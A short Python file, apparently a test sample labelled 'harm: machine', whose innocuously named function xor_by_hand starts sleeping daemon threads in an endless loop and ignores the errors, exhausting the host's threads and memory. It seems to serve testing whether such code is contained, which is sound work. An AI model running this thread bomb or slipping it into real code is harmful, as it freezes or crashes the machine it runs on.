"""Starts threads until there are no more.

harm: machine
must: xor_by_hand fails
"""

import threading
import time


# %% xor_by_hand
def xor_by_hand():
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except (RuntimeError, MemoryError):
            pass
